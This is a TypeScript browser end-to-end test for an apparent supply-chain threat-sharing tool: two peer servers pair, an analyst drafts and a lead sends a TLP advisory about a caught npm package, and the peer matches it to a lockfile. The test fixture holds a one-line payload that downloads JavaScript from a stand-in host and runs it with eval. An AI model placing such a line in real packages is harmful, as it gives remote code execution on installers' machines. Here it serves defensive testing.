import assert from 'node:assert/strict'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { fileURLToPath } from 'node:url'
import { chromium, type Browser, type Page } from 'playwright-core'
import { build } from 'vite'
import { FakeBotApi } from '../../../circle/testing/bot-api.ts'
import { accept } from '../../../jobs/pipeline/accept.ts'
import { openServers, packageArchive, type Server } from './fixtures/servers.ts'

const executablePath = '/usr/bin/chromium'
const skip = existsSync(executablePath) || process.env['SALLYPORT_REQUIRE_ALL'] !== undefined ? false : `${executablePath} is missing: this is tried in a real browser`
const name = 'ledger-formats'
const code = "require('https').get('https://cdn.ledger-fmt.example/f.js', (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => eval(s)) })\n"

describe('two Sallyport servers, in a browser', { skip }, () => {
  const telegram = new FakeBotApi()
  const folder = mkdtempSync(join(tmpdir(), 'sallyport-circle-'))
  let a: Server
  let b: Server
  let browser: Browser

  before(async () => {
    await build({ configFile: fileURLToPath(new URL('../../../console/vite.config.ts', import.meta.url)), logLevel: 'error', build: { outDir: folder, emptyOutDir: true } })
    ;[a, b] = (await openServers(['Alpha', 'Beta'], await telegram.start(), folder)) as [Server, Server]
    browser = await chromium.launch({ executablePath, args: ['--no-sandbox', '--headless=new', '--disable-gpu', '--disable-background-networking'] })
  })
  after(async () => {
    await browser?.close()
    await a?.close()
    await b?.close()
    telegram.stop()
    rmSync(folder, { recursive: true, force: true })
  })

  /** A page at one of the servers, as one of its people; any breach of the policy or uncaught error fails. */
  async function at(server: Server, who: string, path: string, use: (page: Page) => Promise<void>): Promise<void> {
    const context = await browser.newContext({ reducedMotion: 'reduce' })
    const faults: string[] = []
    try {
      await context.addCookies([{ name: 'who', value: who, url: server.url }])
      const page = await context.newPage()
      page.on('pageerror', (error) => faults.push(error.message))
      page.on('console', (message) => {
        if (/Content Security Policy|Trusted ?Type/i.test(message.text())) faults.push(message.text())
      })
      await page.goto(server.url + path)
      await use(page)
      assert.deepEqual(faults, [])
    } finally {
      await context.close()
    }
  }
  const rounds = async (server: Server): Promise<void> => {
    await server.as('admin:root')('POST', '/api/circle/rounds')
    await server.tested.drain()
  }

  it('the admins meet: an invitation is copied, words are read out and typed', async () => {
    let invitation = ''
    let words = ''
    await at(a, 'admin:root', '/circle/peers', async (page) => {
      await page.locator('h1', { hasText: 'nobody in the circle' }).waitFor()
      await page.getByLabel('Invite: the company’s name').fill('Beta')
      await page.getByRole('button', { name: 'Make an invitation' }).click()
      invitation = await page.getByLabel(/Hand this over/).inputValue()
      words = (await page.locator('.peer-words').textContent()) ?? ''
    })
    await at(b, 'admin:root', '/circle/peers', async (page) => {
      await page.getByLabel('Or join: the invitation you were given').fill(invitation)
      await page.getByRole('button', { name: 'Join', exact: true }).click()
      await page.getByLabel('The twelve words you heard on the call').fill(words)
      await page.getByRole('button', { name: 'They are the same' }).click()
      await page.getByText(/Words compared by/).waitFor()
      words = (await page.locator('.peer-words').textContent()) ?? ''
    })
    await rounds(b)
    await at(a, 'admin:root', '/circle/peers', async (page) => {
      await page.getByLabel('The twelve words you heard on the call').fill(words)
      await page.getByRole('button', { name: 'They are the same' }).click()
      await page.getByText(/Words compared by/).waitFor()
    })
  })

  it('at A: a caught package becomes a draft in one click, and a second person sends it', async () => {
    const accepted = await accept(a.tested.house, a.tested.org, { name: `${name}-2.1.1.tgz`, bytes: packageArchive(name, '2.1.1', code), door: null, subject: null, source: 'test' })
    await a.tested.drain()
    const { items } = await a.as('analyst:ana')('GET', '/api/queue')
    const found = items.find((one: { subject: string }) => one.subject === accepted.subject)
    let draft = ''
    await at(a, 'analyst:ana', `/cases/${found.case}`, async (page) => {
      await page.getByRole('button', { name: 'Tell peers' }).click()
      await page.waitForURL('**/circle/advisories/*')
      draft = new URL(page.url()).pathname
      await page.locator('.opening[data-open]', { hasText: 'Beta' }).waitFor()
      await page.getByLabel('TLP:RED').check()
      await page.locator('.opening:not([data-open])', { hasText: 'Beta' }).or(page.getByText('TLP:RED needs the peers')).first().waitFor()
      await page.getByLabel('TLP:AMBER Within').check()
      await page.locator('.opening[data-open]', { hasText: 'Beta' }).waitFor()
      await page.getByRole('button', { name: 'Save the draft' }).click()
      await page.getByRole('button', { name: 'Hand it to a second person' }).click()
      await page.locator('h1', { hasText: 'A second person decides' }).waitFor()
      assert.equal(await page.getByRole('button', { name: 'Approve and send' }).count(), 0)
    })
    await at(a, 'lead:bo', draft, async (page) => {
      await page.getByRole('button', { name: 'Approve and send' }).click()
      await page.locator('h1', { hasText: 'This advisory is out' }).waitFor()
      await page.getByRole('cell', { name: 'Delivered' }).waitFor()
    })
  })

  it('at B: it stands in the inbox, verified, and names what is in a lockfile of ours; A sees the sighting', async () => {
    await b.as('employee:ana')('POST', '/api/circle/lockfiles', { name: 'wallet-frontend', text: JSON.stringify({ lockfileVersion: 3, packages: { '': {}, [`node_modules/${name}`]: { version: '2.1.1' } } }) })
    await rounds(b)
    await at(b, 'lead:bo', '/circle', async (page) => {
      await page.locator('h1', { hasText: 'Alpha told us of something that we have' }).waitFor()
      await page.keyboard.press('j')
      await page.keyboard.press('Enter')
      await page.getByText('lockfile wallet-frontend').waitFor()
      await page.getByText('Signature verified').waitFor()
      await page.getByLabel('Why (the peer reads it)').fill('It was in our lockfile.')
      await page.getByRole('button', { name: 'It is right' }).click()
      await page.getByRole('heading', { name: 'What we think of it' }).locator('..').getByText('It was in our lockfile.').first().waitFor()
    })
    await a.tested.drain()
    await at(a, 'analyst:ana', '/circle/advisories', async (page) => {
      await page.locator('h1', { hasText: 'Peers have found something' }).waitFor()
      await page.keyboard.press('j')
      await page.keyboard.press('Enter')
      await page.getByText(/has seen it/).waitFor()
      await page.getByText('It was in our lockfile.').waitFor()
    })
  })
})
